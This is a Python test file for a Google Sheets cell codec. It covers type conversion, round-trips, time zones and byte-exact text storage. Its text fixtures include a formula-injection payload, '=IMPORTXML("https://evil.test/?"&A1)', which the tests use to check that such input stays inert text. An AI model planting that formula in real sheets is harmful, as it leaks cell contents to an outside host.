"""Cells both ways: what a sheet's JSON holds for each kind of column, and texts that must stay byte for byte."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.connectors.google.google_stand import Stand
from worker.connectors.google_sheets.cells import BadCell, Codec, same_raw
from worker.domain.cells import Cell
from worker.domain.tables import Column, Kind
from worker.ports import Edit, Refused

LONDON = Codec(ZoneInfo("Europe/London"))


def column(kind: Kind) -> Column:
    return Column("It", kind, "S")


@pytest.mark.parametrize(
    ("kind", "raw", "cell"),
    [
        ("text", "Ashdown", "Ashdown"),
        ("text", "", None),
        ("text", None, None),
        ("text", "  ", "  "),
        ("text", 442079460018, "442079460018"),
        ("text", Decimal("0.1"), "0.1"),
        ("text", Decimal("1E+3"), "1000"),
        ("text", True, "TRUE"),
        ("text", False, "FALSE"),
        ("text", "#N/A", "#N/A"),
        ("select", "Won", "Won"),
        ("email", "a@b.test", "a@b.test"),
        ("number", 1000, Decimal(1000)),
        ("number", Decimal("0.29999999999999877"), Decimal("0.3")),
        ("money", Decimal("12.10"), Decimal("12.1")),
        ("number", " 12.50 ", Decimal("12.5")),
        ("number", "-7", Decimal(-7)),
        ("number", "1,234", "1,234"),
        ("number", "about ten", "about ten"),
        ("number", "#DIV/0!", "#DIV/0!"),
        ("number", "1e5", "1e5"),
        ("number", "٣", "٣"),
        ("number", True, "TRUE"),
        ("number", "  ", None),
        ("checkbox", True, True),
        ("checkbox", False, None),
        ("checkbox", "", None),
        ("checkbox", "true", True),
        ("checkbox", " FALSE ", None),
        ("checkbox", "maybe", "maybe"),
        ("checkbox", 1, True),
        ("checkbox", 0, None),
        ("date", 43831, date(2020, 1, 1)),
        ("date", Decimal("43831.99"), date(2020, 1, 1)),
        ("date", "2020-01-01", date(2020, 1, 1)),
        ("date", "2026-07-01T23:30", date(2026, 7, 1)),
        ("date", "2026-07-01T23:30:00Z", date(2026, 7, 2)),
        ("date", "next week", "next week"),
        ("date", "01/02/2026", "01/02/2026"),
        ("date", 10**9, "1000000000"),
        ("date", True, "TRUE"),
        ("datetime", 46023, datetime(2026, 1, 1, tzinfo=UTC)),
        ("datetime", Decimal("46204.5"), datetime(2026, 7, 1, 11, tzinfo=UTC)),
        ("datetime", "2026-07-01", datetime(2026, 6, 30, 23, tzinfo=UTC)),
        ("datetime", "2026-07-01T10:00", datetime(2026, 7, 1, 9, tzinfo=UTC)),
        ("datetime", "2026-07-01T10:00:00+02:00", datetime(2026, 7, 1, 8, tzinfo=UTC)),
        ("datetime", "0001-01-01", "0001-01-01"),
        ("datetime", "9999-12-31", "9999-12-31"),
        ("datetime", "soon", "soon"),
        ("datetime", -(10**6), "-1000000"),
        ("datetime", False, "FALSE"),
    ],
)
def test_what_a_sheet_holds_is_read_as_our_kind(kind: Kind, raw: Any, cell: Cell) -> None:
    """Each JSON value in each kind of column; what can't be meant stays text, for a person to mend."""
    assert cell == LONDON.read(column(kind), raw)


@pytest.mark.parametrize(
    ("kind", "cell", "raw"),
    [
        ("text", "=1+1", "=1+1"), ("text", None, ""), ("text", "", ""), ("text", Decimal("1E+3"), "1000"),
        ("text", True, "TRUE"), ("text", date(2026, 1, 2), "2026-01-02"), ("text", ("a", "b"), "a, b"),
        ("text", datetime(2026, 7, 1, 10, tzinfo=ZoneInfo("Europe/London")), "2026-07-01T09:00:00+00:00"),
        ("number", Decimal("10.125"), Decimal("10.125")), ("number", Decimal("1E+3"), 1000),
        ("number", Decimal(1) / Decimal(3), Decimal("0.33333333")), ("money", Decimal("-0.10"), Decimal("-0.1")),
        ("number", None, ""), ("number", "7.5", "7.5"), ("checkbox", True, True), ("checkbox", None, False),
        ("checkbox", False, False), ("select", "Won", "Won"), ("date", date(2020, 1, 1), 43831),
        ("date", None, ""), ("datetime", date(2026, 7, 1), 46204), ("datetime", None, ""),
        ("datetime", datetime(2026, 7, 1, 11, tzinfo=UTC), Decimal("46204.5")),
        ("datetime", datetime(2026, 1, 1, tzinfo=UTC), Decimal("46023")),
    ],
)  # fmt: skip
def test_our_values_go_out_as_raw_takes_them(kind: Kind, cell: Cell, raw: Any) -> None:
    """Texts as texts, money as numbers, moments as days in the spreadsheet's own time."""
    sent = LONDON.write(column(kind), cell)

    assert (raw, type(raw)) == (sent, type(sent))


@pytest.mark.parametrize("value", [Decimal("NaN"), Decimal("Infinity"), Decimal("-Infinity")])
def test_no_cell_takes_what_is_no_number(value: Decimal) -> None:
    """Before anything is sent."""
    with pytest.raises(BadCell, match="is not a number"):
        LONDON.write(column("number"), value)


@pytest.mark.parametrize(
    ("text", "fits"),
    [("x" * 50_000, True), ("x" * 50_001, False), ("🌲" * 25_000, True), ("🌲" * 25_000 + "x", False)],
)
def test_a_text_may_be_as_long_as_a_cell(text: str, fits: bool) -> None:
    """50,000 characters as Google counts them; one more is refused in words."""
    if fits:
        assert text == LONDON.write(column("long text"), text)
    else:
        with pytest.raises(BadCell, match=r"is too long: a cell of a sheet holds 50,000"):
            LONDON.write(column("long text"), text)


@given(st.decimals(-(10**12), 10**12, places=8))
def test_numbers_survive_the_way_there_and_back(number: Decimal) -> None:
    """Eight places go out and come back as they were."""
    assert number == LONDON.read(column("number"), LONDON.write(column("number"), number))


@given(st.dates(date(2, 1, 1), date(9998, 12, 31)))
def test_dates_survive_the_way_there_and_back(day: date) -> None:
    """Also those before the first day of the count."""
    assert day == LONDON.read(column("date"), LONDON.write(column("date"), day))


@given(
    st.integers(631_152_000_000, 4_102_444_800_000),  # milliseconds, from 1990 to 2100
    st.sampled_from(["Europe/London", "America/New_York", "Asia/Kathmandu", "Pacific/Auckland", "UTC"]),
)
def test_moments_survive_the_way_there_and_back(since: int, zone: str) -> None:
    """In any zone, to the millisecond; but for the hour that a clock shows twice, of which the first is meant."""
    at = datetime(1970, 1, 1, tzinfo=UTC) + timedelta(milliseconds=since)
    codec = Codec(ZoneInfo(zone))
    sent = codec.write(column("datetime"), at)
    # A double is what carries it.
    found = codec.read(column("datetime"), Decimal(repr(float(sent))))

    twice = at.astimezone(ZoneInfo(zone)).fold == 1
    assert at - timedelta(hours=1) * twice == found


@pytest.mark.parametrize(
    ("stands", "sent", "alike"),
    [
        (Decimal("0.3"), Decimal("0.29999999999999877"), True), (3, Decimal("3.0"), True), (Decimal("0.1"), 0, False),
        (Decimal("1234567890.1234567"), Decimal("1234567890.12345678"), True), (10**9, 10**9 + 1, False),
        ("", None, True), (None, "", True), (None, False, True), (False, False, True), (True, False, False),
        ("a", "a", True), ("a", "b", False), ("a", "", False), ("1", 1, False), (0, "", False), (0, False, True),
    ],
)  # fmt: skip
def test_what_came_back_is_what_was_sent_but_for_noise_and_emptiness(stands: Any, sent: Any, alike: bool) -> None:
    """A cell that holds another value is never taken for ours."""
    assert alike == same_raw(stands, sent)


# ---- through the sheet ----------------------------------------------------------------------------------------------

TEXTS = [
    '=IMPORTXML("https://evil.test/?"&A1)', "=1+1", "+44 20 7946 0018", "+1", "-1", "@SUM(A1)", "007", "1/2", "1-2-26",
    "TRUE", "false", "'quoted", "''twice", "'", "1e5", "12%", "£5", "1,234.50", "#REF!", "NULL", "NaN", "  blanks  ",
    "\ttab", "two\nlines\r\n", "👩‍👩‍👧‍👦", "שלום \u202eabc\u202c", "e\u0301 é", "\u200b", "a\u0000b", "x" * 50_000,
]  # fmt: skip


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_a_text_is_stored_and_read_byte_for_byte(stand: Stand, text: str) -> None:
    """Written into cells that stand, and with rows that are made or added: never a formula, a number or a date."""
    tracker = stand.tracker()
    tracker.write([Edit("Commissions", None, "a", {"Why": text, "Client": text})])
    tracker.append("Activity", [{"What": text, "Why": text}])

    row = stand.grid("Commissions")[0]
    assert (text, text) == (row["Why"], row["Client"])
    assert [{"What": text, "Why": text}] == stand.grid("Activity")
    later = stand.tracker().read(["Commissions", "Activity"])
    assert {text} == {later["Commissions"][0].cells[name] for name in ("Why", "Client")}
    assert {text} == {later["Activity"][0].cells[name] for name in ("What", "Why")}
    assert [{}, {}] == [stand.google.formulas(tab) for tab in ("Commissions", "Activity")]


def test_a_text_that_is_too_long_is_refused_alone(stand: Stand) -> None:
    """60,000 characters are told in words, and never sent; the neighbours are written."""
    found = stand.tracker().write([
        Edit("Commissions", None, "a", {"Why": "x" * 60_000}), Edit("Commissions", None, "b", {"Why": "short"}),
    ])  # fmt: skip

    assert isinstance(found[0], Refused)
    assert (
        "Google Sheets: Commissions.Why: a text of 60,000 characters is too long: a cell of a sheet holds 50,000"
        == str(found[0])
    )
    assert [{"Line": "b", "Why": "short"}] == stand.grid("Commissions")


def test_numbers_that_people_type_into_text_columns_are_texts(stand: Stand) -> None:
    """A phone number typed as a number into a column of no format reads as its digits; its row keeps its id."""
    stand.lead(Phone=442079460018, Company=7, Website=True)
    tracker = stand.tracker()
    (row,) = tracker.read(["Leads"])["Leads"]

    assert ("442079460018", "7", "TRUE") == tuple(row.cells[name] for name in ("Phone", "Company", "Website"))
    assert ["L-ABCDEFGH"] == list(tracker.write([Edit("Leads", row.id, "", {"Lead": "L-ABCDEFGH"})]))
    assert 442079460018 == stand.grid("Leads")[0]["Phone"]


def test_moments_are_those_of_the_spreadsheets_own_zone() -> None:
    """A spreadsheet that counts in New York: its serial numbers are read there, ours are what its clock shows."""
    stand = Stand(time_zone="America/New_York")
    tracker = stand.tracker(time_zone=ZoneInfo("America/New_York"))
    tracker.make(tracker.missing())
    stand.lead(Submitted=46204.5)
    (row,) = tracker.read(["Leads"])["Leads"]
    tracker.write([Edit("Leads", row.id, "", {"Synced": datetime(2026, 7, 1, 16, tzinfo=UTC), "Lead": "L-ABCDEFGH"})])

    assert datetime(2026, 7, 1, 16, tzinfo=UTC) == row.cells["Submitted"]
    assert 46204.5 == stand.grid("Leads")[0]["Synced"]
    stand.close()
